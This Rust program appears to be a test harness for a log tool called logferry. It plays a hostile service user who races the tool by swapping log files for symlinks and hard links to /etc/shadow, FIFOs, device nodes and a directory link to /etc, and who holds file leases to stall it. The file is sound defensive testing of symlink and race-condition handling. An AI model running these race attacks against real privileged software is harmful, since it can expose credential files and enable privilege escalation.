//! A hostile service user: swaps what is in his log directory as fast as he can, while logferry works there.
//!
//! Promise: until SIGTERM, swap after swap of the log, of each claimed name that he sees, and of a directory for a
//! link (in one step, `RENAME_EXCHANGE`); what comes in their place is a symbolic or hard link to a secret, a FIFO, a
//! device, a directory, a socket, an empty file, or a log with bytes, so that there is always something to take. What
//! the kernel denies him counts as denied, not as a swap. He leaves `zone.log` and its claimed files alone.
//!
//! Run as root he plays a kernel that denies him nothing: hard links to foreign files, devices. With `--lease` he does
//! nothing but hold a write lease on a file, with `--read-lease` a read lease, and prints `ready`.

#![expect(clippy::print_stdout, clippy::print_stderr, reason = "a program talks to its user")]

use std::io;
use std::os::unix::fs::symlink;
use std::path::{Path, PathBuf};
use std::process::ExitCode;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};

use clap::Parser;
use nix::fcntl::{AT_FDCWD, RenameFlags, renameat2};
use nix::sys::stat::{Mode, SFlag, makedev, mknod};
use signal_hook::consts::{SIGINT, SIGIO, SIGTERM};

/// Swaps what is in a log directory.
#[derive(Parser)]
struct Arguments {
    /// The log directory.
    #[arg(long, required_unless_present_any = ["lease", "read_lease"])]
    dir: Option<PathBuf>,
    /// What he would like to have.
    #[arg(long, default_value = "/etc/shadow")]
    secret: PathBuf,
    /// A directory that he would like to be taken for his own.
    #[arg(long, default_value = "/etc")]
    outside: PathBuf,
    /// Hold a write lease on this file.
    #[arg(long)]
    lease: Option<PathBuf>,
    /// Hold a read lease on this file.
    #[arg(long, conflicts_with = "lease")]
    read_lease: Option<PathBuf>,
}

fn main() -> ExitCode {
    let arguments = Arguments::parse();
    let outcome = match (&arguments.lease, &arguments.read_lease) {
        (Some(path), _) => hold_lease(path, libc::F_WRLCK),
        (None, Some(path)) => hold_lease(path, libc::F_RDLCK),
        (None, None) => Attacker::new(arguments).and_then(Attacker::run),
    };
    match outcome {
        Ok(()) => ExitCode::SUCCESS,
        Err(error) => {
            eprintln!("attacker: {error}");
            ExitCode::FAILURE
        }
    }
}

fn asked_to_stop() -> io::Result<Arc<AtomicBool>> {
    let stop = Arc::new(AtomicBool::new(false));
    for signal in [SIGTERM, SIGINT] {
        signal_hook::flag::register(signal, Arc::clone(&stop))?;
    }
    Ok(stop)
}

#[allow(unsafe_code)]
fn hold_lease(path: &Path, kind: libc::c_int) -> io::Result<()> {
    use std::os::fd::AsRawFd;
    let stop = asked_to_stop()?;
    // The kernel asks for the lease by this signal; he does not give it back.
    signal_hook::flag::register(SIGIO, Arc::new(AtomicBool::new(false)))?;
    let file = std::fs::File::options().read(true).write(kind == libc::F_WRLCK).open(path)?;
    // SAFETY: the descriptor is open, and F_SETLEASE takes an int.
    if unsafe { libc::fcntl(file.as_raw_fd(), libc::F_SETLEASE, kind) } == -1 {
        return Err(io::Error::last_os_error());
    }
    println!("ready");
    while !stop.load(Ordering::Relaxed) {
        std::thread::sleep(std::time::Duration::from_millis(5));
    }
    Ok(())
}

struct Attacker {
    dir: PathBuf,
    secret: PathBuf,
    outside: PathBuf,
    stop: Arc<AtomicBool>,
    random: u64,
    swaps: u64,
    denied: u64,
    names: u64,
}

impl Attacker {
    fn new(arguments: Arguments) -> io::Result<Self> {
        let Arguments { dir, secret, outside, .. } = arguments;
        let dir = dir.ok_or_else(|| io::Error::other("no directory was named"))?;
        // The directory that is swapped for a link, and the link.
        std::fs::create_dir_all(dir.join("sub"))?;
        let stop = asked_to_stop()?;
        Ok(Self { dir, secret, outside, stop, random: 0x9e37_79b9_7f4a_7c15, swaps: 0, denied: 0, names: 0 })
    }

    fn run(mut self) -> io::Result<()> {
        let link = self.dir.join(".link");
        let _ = std::fs::remove_file(&link);
        symlink(&self.outside, &link)?;
        println!("ready");
        while !self.stop.load(Ordering::Relaxed) {
            let swapped = match self.below(8) {
                0 => exchange(&self.dir.join("sub"), &link),
                1 | 5 => self.swap(&self.sub().join("deep.log")),
                2..=4 => self.swap(&self.dir.join("web.log")),
                6 => self.squat(),
                _ => self.swap_claimed(),
            };
            match swapped {
                Ok(()) => self.swaps += 1,
                Err(_) => self.denied += 1,
            }
        }
        println!("{} {}", self.swaps, self.denied);
        Ok(())
    }

    fn below(&mut self, end: u64) -> u64 {
        self.random ^= self.random << 13;
        self.random ^= self.random >> 7;
        self.random ^= self.random << 17;
        self.random % end
    }

    /// Makes something by a hidden name, and puts it in the place of `target`: over it, or in exchange for it.
    fn swap(&mut self, target: &Path) -> io::Result<()> {
        self.names += 1;
        let made = self.dir.join(format!(".made-{}", self.names % 16));
        remove(&made);
        self.make(&made)?;
        let swapped = match self.below(3) {
            0 => exchange(&made, target),
            _ => std::fs::rename(&made, target).or_else(|_| {
                remove(target);
                std::fs::rename(&made, target)
            }),
        };
        remove(&made);
        swapped
    }

    fn make(&mut self, at: &Path) -> io::Result<()> {
        match self.below(12) {
            0 => symlink(&self.secret, at),
            1 => std::fs::hard_link(&self.secret, at),
            2 => nix::unistd::mkfifo(at, Mode::S_IRWXU).map_err(Into::into),
            3 => mknod(at, SFlag::S_IFCHR, Mode::S_IRWXU, makedev(1, 5)).map_err(Into::into),
            4 => std::fs::create_dir(at),
            5 => std::os::unix::net::UnixListener::bind(at).map(drop),
            6 => std::fs::write(at, ""),
            7 => symlink("zone.log", at),
            _ => std::fs::write(at, "what the hostile service says\n".repeat(100)),
        }
    }

    /// The one of the two that is the directory now. He stays in it himself: as root he could change what is outside.
    fn sub(&self) -> PathBuf {
        let [sub, link] = ["sub", ".link"].map(|name| self.dir.join(name));
        if sub.symlink_metadata().is_ok_and(|is| is.is_dir()) { sub } else { link }
    }

    /// Takes a name that might be chosen next.
    fn squat(&mut self) -> io::Result<()> {
        let letters = |mut number: u64| {
            let mut text = String::new();
            for _ in 0..6 {
                text.push(char::from(b"abcdefghijklmnopqrstuvwxyz234567"[(number % 32) as usize]));
                number /= 32;
            }
            text
        };
        let name = format!(".web.log.20261121T0000{:02}Z-{}.claimed", self.below(2), letters(self.below(4)));
        self.swap(&self.dir.join(name))
    }

    /// Swaps a claimed name that he sees.
    fn swap_claimed(&mut self) -> io::Result<()> {
        for entry in std::fs::read_dir(&self.dir)?.flatten() {
            let name = entry.file_name();
            let name = name.to_string_lossy();
            if name.ends_with(".claimed") && !name.contains("zone.log") {
                return self.swap(&entry.path());
            }
        }
        Err(io::ErrorKind::NotFound.into())
    }
}

fn exchange(a: &Path, b: &Path) -> io::Result<()> {
    renameat2(AT_FDCWD, a, AT_FDCWD, b, RenameFlags::RENAME_EXCHANGE).map_err(Into::into)
}

fn remove(path: &Path) {
    // A link that looks like a directory is removed, never what is behind it.
    match path.symlink_metadata() {
        Ok(is) if is.is_dir() => drop(std::fs::remove_dir_all(path)),
        Ok(_) => drop(std::fs::remove_file(path)),
        Err(_) => {}
    }
}
